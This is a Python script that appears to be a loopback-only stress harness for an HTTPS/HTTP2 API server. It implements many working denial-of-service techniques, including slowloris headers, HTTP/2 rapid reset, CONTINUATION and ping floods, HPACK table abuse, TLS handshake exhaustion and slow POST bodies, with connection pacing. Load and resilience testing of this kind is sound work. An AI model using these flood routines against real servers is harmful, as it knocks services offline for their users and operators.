"""flood_attack.py <kind> <port> <source address> <seconds> <bytes per second> - one attacker without credentials.

It runs as a process of its own, so that its work does not slow down the clients that are measured. It sends up to the
given rate, never reads more than it must, opens a new connection when one is closed, and prints how many bytes it has
sent, on how many connections. Rounds are bounded by time and by CONNECTIONS_MAX. Loopback only."""
import os
import random
import select
import socket
import ssl
import struct
import sys
import time

CONNECTIONS_MAX = 6000
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, CONTINUATION = 0, 1, 2, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value, prefix_bits, first=0):
    """An integer of HPACK."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes(out + [value])


def literal(name, value, first=0):
    """A field with a new name; first 0x40: it goes into the table."""
    return bytes([first]) + b"".join(number(len(t), 7) + t.encode() for t in (name, value))


PSEUDO = b"\x82\x87" + literal(":authority", "localhost")  # GET, https
GET = PSEUDO + b"\x84"  # path /
LIVEZ = PSEUDO + literal(":path", "/livez")
TABLE_ENTRY = literal("x", "y" * 4000, 0x40)


class Attacker:
    def __init__(self, port, source, seconds, rate):
        self.port, self.source, self.rate = port, source, rate
        self.begun = time.monotonic()
        self.end = self.begun + seconds
        self.sent, self.opened, self.open = 0, 0, []
        self.context = ssl.create_default_context()
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE

    def is_over(self):
        return time.monotonic() >= self.end

    def pace(self, n):
        """Before n bytes are sent: waits until they are due."""
        self.sent += n
        late = self.begun + self.sent / self.rate - time.monotonic()
        if late > 0.002:
            time.sleep(min(late, max(0, self.end - time.monotonic())))

    def plug(self):
        """A TCP connection; the oldest goes when there are too many. None: refused."""
        if len(self.open) >= CONNECTIONS_MAX:
            self.open.pop(0).close()
        raw = socket.socket()
        raw.settimeout(5)
        self.pace(200)  # the packets of a connection
        try:
            raw.bind((self.source, 0))
            raw.connect(("127.0.0.1", self.port))
        except OSError:
            raw.close()
            time.sleep(0.01)
            return None
        self.opened += 1
        return raw

    def secure(self, protocol="http/1.1"):
        raw = self.plug()
        if not raw:
            return None
        self.context.set_alpn_protocols([protocol])
        self.pace(600)
        try:
            c = self.context.wrap_socket(raw)
        except OSError:
            raw.close()
            return None
        c.settimeout(0)
        self.open.append(c)
        return c

    def say(self, c, data):
        """False: it takes no more, or is closed."""
        self.pace(len(data))
        try:
            return c.send(data) == len(data)
        except (ssl.SSLWantWriteError, BlockingIOError):
            return False
        except OSError:
            self.drop(c)
            return False

    def drop(self, c):
        if c in self.open:
            self.open.remove(c)
        c.close()

    def h2(self, *settings):
        c = self.secure("h2")
        if c and self.say(c, PREFACE + frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in settings))):
            return c
        return None

    # ---- kinds: each does a small step, again and again ----

    def zero_window_heads(self):
        """Heads of 60 KB, each 20 bytes on the wire, whose answers may not be sent."""
        c = self.h2((4, 0))
        if not c or not self.say(c, frame(HEADERS, END_STREAM | END_HEADERS, 1, GET + TABLE_ENTRY)):
            return
        for first in range(3, 2001, 20):
            heads = (frame(HEADERS, END_STREAM | END_HEADERS, first + 2 * i, GET + b"\xbe" * 14) for i in range(10))
            if self.is_over() or not self.say(c, b"".join(heads)):
                return

    def large_heads(self):
        """The same heads, but the answers are taken."""
        c = self.h2()
        if not c or not self.say(c, frame(HEADERS, END_STREAM | END_HEADERS, 1, GET + TABLE_ENTRY)):
            return
        stream = 3
        while not self.is_over():
            heads = b""
            for _ in range(20):
                heads += frame(HEADERS, END_STREAM | END_HEADERS, stream, GET + b"\xbe" * 14)
                stream += 2
            sent = self.say(c, heads)
            if not self.take(c) or not sent:
                return

    def take(self, c):
        """Reads what there is. False: closed."""
        try:
            while piece := c.recv(65536):
                del piece
        except (ssl.SSLWantReadError, BlockingIOError):
            return c in self.open
        except OSError:
            pass
        self.drop(c)
        return False

    def unfinished_heads(self):
        c = self.secure()
        if c:
            self.say(c, b"GET /livez HTTP/1.1\r\nHost: localhost\r\nX-A: ")

    def long_unfinished_heads(self):
        c = self.secure()
        if c:
            self.say(c, b"GET /livez HTTP/1.1\r\nHost: localhost\r\nX-A: " + b"a" * 60000)

    def websocket_heads(self):
        """Upgrades with long heads that nearly end."""
        c = self.secure()
        if c:
            self.say(c, b"GET /api/v1/pods?watch=1 HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\n"
                        b"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n" +
                        b"".join(b"X-%d: %s\r\n" % (i, b"b" * 400) for i in range(100)))

    def refused_streams(self):
        """As many streams as fit, none of whose answers may be sent."""
        c = self.h2((4, 0))
        for first in range(1, 40001, 100):
            heads = (frame(HEADERS, END_STREAM | END_HEADERS, first + 2 * i, GET) for i in range(50))
            if not c or self.is_over() or not self.say(c, b"".join(heads)):
                return

    def silent_handshakes(self):
        raw = self.plug()
        if raw:
            self.open.append(raw)

    def scattered_handshakes(self):
        """Silent ones from fifty addresses, none of which has all that an address may have."""
        self.source = f"127.0.1.{random.randrange(1, 51)}"
        self.silent_handshakes()

    def hello_handshakes(self):
        """A ClientHello, and then nothing: it costs the server a signature."""
        raw = self.plug()
        if not raw:
            return
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        try:
            self.context.wrap_bio(incoming, outgoing).do_handshake()
        except ssl.SSLWantReadError:
            pass
        raw.settimeout(0)
        self.open.append(raw)
        self.say(raw, outgoing.read())

    def full_handshakes(self):
        c = self.secure()
        if c:
            self.drop(c)

    def idle_connections(self):
        self.secure()

    def slow_bodies(self):
        """Writes without credentials whose bodies do not end."""
        if len(self.open) < 500 or random.random() < 0.05:
            c = self.secure()
            if c:
                self.say(c, b"POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: localhost\r\n"
                            b"Content-Length: 60000\r\n\r\n")
        for c in random.sample(self.open, min(20, len(self.open))):
            self.say(c, b"{")

    def continuations(self):
        c = self.h2()
        if not c or not self.say(c, frame(HEADERS, 0, 1, GET)):
            return
        while not self.is_over() and self.say(c, frame(CONTINUATION, 0, 1, literal("x", "y" * 50)) * 50):
            pass

    def empty_continuations(self):
        c = self.h2()
        if not c or not self.say(c, frame(HEADERS, 0, 1, GET)):
            return
        while not self.is_over() and self.say(c, frame(CONTINUATION, 0, 1) * 500):
            pass

    def frames(self, one):
        c = self.h2()
        while c and not self.is_over() and self.say(c, one * 100):
            pass

    def settings(self):
        self.frames(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))

    def pings(self):
        self.frames(frame(PING, 0, 0, b"12345678"))

    def priorities(self):
        self.frames(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)))

    def resets(self):
        c = self.h2()
        for first in range(1, 40001, 100):
            pairs = (frame(HEADERS, END_STREAM | END_HEADERS, first + 2 * i, GET) +
                     frame(RST, 0, first + 2 * i, struct.pack(">I", 8)) for i in range(50))
            if not c or self.is_over() or not self.say(c, b"".join(pairs)):
                return

    def wrong_tokens(self):
        """Whole requests with a token that is nobody's, pipelined as fast as the rate allows."""
        c = self.secure()
        request = b"GET /api/v1/pods HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer wrong\r\n\r\n"
        while c and not self.is_over() and self.take(c):
            if not self.say(c, request * 100):
                select.select([c], [], [], 0.05)
                self.drop(c)

    def anonymous_requests(self):
        c = self.h2()
        stream = 1
        while c and not self.is_over() and self.take(c):
            heads = b""
            for _ in range(50):
                heads += frame(HEADERS, END_STREAM | END_HEADERS, stream, GET)
                stream += 2
            if not self.say(c, heads):
                return


KINDS = [name for name, f in vars(Attacker).items()
         if callable(f) and name[0] != "_" and name not in ("is_over", "pace", "plug", "secure", "say", "drop", "h2", "take", "frames")]


def main():
    kind, port, source, seconds, rate = sys.argv[1:]
    a = Attacker(int(port), source, float(seconds), float(rate))
    parent = os.getppid()
    step = getattr(a, kind)
    while not a.is_over() and os.getppid() == parent:
        step()
    print(f"{a.sent} bytes on {a.opened} connections", flush=True)
    sys.stdin.read()  # connections stay open until whoever started it says so


if __name__ == "__main__":
    main()
